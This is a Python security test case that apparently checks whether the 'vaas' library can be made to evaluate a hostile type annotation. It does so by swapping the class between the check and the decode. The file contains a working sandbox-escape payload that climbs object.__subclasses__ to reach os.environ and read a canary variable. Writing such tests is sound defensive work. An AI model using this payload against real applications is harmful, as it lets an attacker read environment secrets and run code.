"""No annotation names one class to the check and another to who decodes into it."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("vaas", "dataclasses")


import dataclasses

import vaas

found = []
CODE = (
    "leak([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
    ".__init__.__globals__['environ']['VAAS_CANARY'])"
)


def leak(value):
    found.append(value)
    return int


@dataclasses.dataclass
class Good:
    x: int = 1


@dataclasses.dataclass
class Evil:
    x: CODE = 1


class Chooser:
    left = 0

    @property
    def kind(self):
        self.left -= 1
        return Good if self.left >= 0 else Evil


chooser = Chooser()


def attack():
    for left in range(12):
        chooser.left = left

        @dataclasses.dataclass
        class Body:
            y: "chooser.kind"

        @vaas.app
        class App:
            @vaas.post("/x")
            def x(self, body: Body):
                return 1

        try:
            vaas.asgi(App)
        except Exception:
            pass
        if found:
            return "ESCAPED: " + found[0]
    return ""
